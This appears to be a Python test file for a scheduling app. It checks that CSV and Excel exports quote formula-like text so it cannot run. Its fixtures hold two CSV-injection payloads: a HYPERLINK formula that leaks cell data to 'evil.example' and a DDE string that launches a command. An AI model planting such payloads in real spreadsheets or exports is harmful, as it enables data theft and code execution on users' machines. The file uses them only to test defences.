"""What leaves the app is text: a title, crew or base named like a formula is written as
text (quoted) in every CSV and workbook, numbers stay numbers, and a plan folder read back
gives the reasons written."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from scheduler.app import exports as e
from scheduler.domain.cells import restore_cell, spreadsheet_cell, spreadsheet_text
from scheduler.domain.model import Scenario
from scheduler.domain.plan import Plan
from scheduler.io.plan_io import read_plan, write_plan
from scheduler.services.planning import PlanOutcome, plan_scenario
from tests.factories import tiny_scenario

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("总裁的替身", "总裁的替身"),  # kept
        ("T01", "T01"),
        ("a=b", "a=b"),
        (EVIL, "'" + EVIL),  # broken: each formula start quoted
        ("+1", "'+1"),
        ("-5 天", "'-5 天"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted", "''quoted"),
    ],
)
def test_text_cells_are_quoted_and_restored(text: str, written: str) -> None:
    assert spreadsheet_text(text) == written
    assert restore_cell(written) == text


def test_numbers_stay_numbers() -> None:
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(-0.5) == -0.5
    assert spreadsheet_cell(None) is None


@pytest.fixture(scope="module")
def evil(tutorial: Scenario) -> tuple[Scenario, PlanOutcome]:
    titles = (replace(tutorial.titles[0], name=EVIL), *tutorial.titles[1:])
    crews = (replace(tutorial.crews[0], name=DDE), *tutorial.crews[1:])
    bases = (replace(tutorial.bases[0], name="@evil"), *tutorial.bases[1:])
    scenario = replace(tutorial, titles=titles, crews=crews, bases=bases)
    outcome = plan_scenario(scenario, time_limit=5)
    assert outcome.ok
    return scenario, outcome


def formulas(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
    ]


def test_workbooks_hold_no_formula(evil: tuple[Scenario, PlanOutcome]) -> None:
    scenario, outcome = evil
    books = {
        "plan": e.plan_workbook(scenario, outcome.plan, outcome.kpis),
        "crews": e.crew_schedule_workbook(scenario, outcome.plan),
        "booking": e.booking_workbook(scenario, outcome.plan),
    }
    for name, data in books.items():
        assert formulas(data) == [], name
    plan_book = openpyxl.load_workbook(io.BytesIO(books["plan"]))
    values = [c.value for row in plan_book.worksheets[0].iter_rows() for c in row]
    assert "'" + EVIL in values  # the name is there, as text


def test_crew_csv_quotes_the_crew_name(evil: tuple[Scenario, PlanOutcome]) -> None:
    scenario, outcome = evil
    crew_id = scenario.crews[0].crew_id
    text = e.crew_schedule_csv(scenario, outcome.plan, crew_id).decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)


def test_kpi_numbers_stay_numbers() -> None:
    data = e.plan_workbook(tiny_scenario(), Plan((), {}), {"cost": -5, "x": "-y"})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["KPI"]
    values = {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2)}
    assert values == {"cost": -5, "x": "'-y"}


def test_plan_folder_reasons_round_trip(tmp_path: Path) -> None:
    reasons = {"T1": "=1+1", "T2": "-5 天 没有场景", "T3": "'引号", "T4": "普通原因"}
    write_plan(tmp_path / "out", Plan((), reasons))
    text = (tmp_path / "out" / "unscheduled.csv").read_text(encoding="utf-8")
    assert "T1,'=1+1" in text and "T4,普通原因" in text
    back, _ = read_plan(tmp_path / "out")
    assert dict(back.unscheduled) == reasons
